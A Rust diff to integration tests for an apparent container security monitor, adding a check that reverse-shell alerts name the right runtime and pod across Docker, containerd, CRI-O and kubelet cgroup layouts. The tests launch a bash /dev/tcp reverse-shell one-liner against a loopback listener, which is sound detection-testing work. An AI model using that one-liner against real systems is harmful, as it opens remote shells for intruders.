@@ -5,6 +5,7 @@ use crate::container::{Container, Group, wait};
 use crate::daemon::{ALERT_WAIT, Daemon, Settings, is_alert, outcome};
 use crate::lab::Peer;
 use crate::pace;
+use crate::shared;
 use anyhow::{Context, Result, anyhow, ensure};
 use std::collections::HashSet;
 use std::net::TcpListener;
@@ -17,14 +18,50 @@ const CHURN: usize = 2000;
 /// Started side by side; as many as this machine has processors would be too gentle.
 const BATCH: usize = 4;
 
+/// Where runtimes put a container's cgroup, as seen from their parent, with what is to be told of it: the
+/// runtime's name, if the path has one, and the pod's uid. Both of Docker's drivers; kubelet with both of its own.
+const LAYOUTS: [(&str, &str, &str); 6] = [
+    ("docker/ID", "docker", ""),
+    ("system.slice/docker-ID.scope", "docker", ""),
+    ("system.slice/cri-containerd-ID.scope", "containerd", ""),
+    ("kubepods/burstable/podPOD/ID", "", POD),
+    ("kubepods/besteffort/podPOD/crio-ID", "cri-o", POD),
+    (
+        "kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-podP_O_D.slice/cri-containerd-ID.scope",
+        "containerd",
+        POD,
+    ),
+];
+const POD: &str = "2f6b1c3a-98d4-4e57-a6c0-1d2e3f4a5b6c";
+
+/// A reverse shell is told with its container's id, runtime and pod, wherever the runtime put the
+/// container: in the hierarchy this machine tells containers by.
+pub fn runtime_layouts_are_told_apart() -> Result<()> {
+    let watch = shared::watch("monitor")?;
+    let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "exit\n", pace::wait(Duration::from_secs(1)))?;
+    for (layout, runtime, pod) in LAYOUTS {
+        // In the name of a slice, dashes are levels.
+        let path = layout.replace("POD", POD).replace("P_O_D", &POD.replace('-', "_"));
+        let cgroup = watch.group.cgroup_at(&path)?;
+        let attack = format!("bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", peer.port);
+        let child = cgroup.command(&["bash", "-c", &attack]).stdin(Stdio::null()).stderr(Stdio::null()).spawn()?;
+        wait(child, pace::wait(Duration::from_secs(10)))?;
+        let alert = watch.daemon.await_alert("reverse_shell", &cgroup.id).context(layout)?;
+        let told = alert["container"]["runtime"].as_str().unwrap_or_default();
+        ensure!(told == runtime, "{layout}: runtime {told:?}, not {runtime:?}");
+        let told = alert["container"]["labels"]["io.kubernetes.pod.uid"].as_str().unwrap_or_default();
+        ensure!(told == pod, "{layout}: pod {told:?}, not {pod:?}");
+    }
+    Ok(())
+}
+
 /// A container gone 50 ms after it was made is named in the alert about it.
 pub fn short_lived_container_is_identified() -> Result<()> {
-    let group = Group::make()?;
-    let daemon = Daemon::start(&group, &Settings::mode("monitor"))?;
+    let watch = shared::watch("monitor")?;
     let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "exit\n", pace::wait(Duration::from_millis(40)))?;
     let mut ids = Vec::new();
     for _ in 0..5 {
-        let cgroup = group.cgroup()?;
+        let cgroup = watch.group.cgroup()?;
         let made = Instant::now();
         let attack = format!("bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", peer.port);
         let mut child = cgroup.command(&["bash", "-c", &attack]).stdin(Stdio::null()).stderr(Stdio::null()).spawn()?;
@@ -34,7 +71,7 @@ pub fn short_lived_container_is_identified() -> Result<()> {
         ids.push(cgroup.id.clone());
     }
     for id in ids {
-        let alert = daemon.await_alert("reverse_shell", &id)?;
+        let alert = watch.daemon.await_alert("reverse_shell", &id)?;
         ensure!(alert["container"]["runtime"] == "docker", "runtime {}", alert["container"]["runtime"]);
     }
     Ok(())
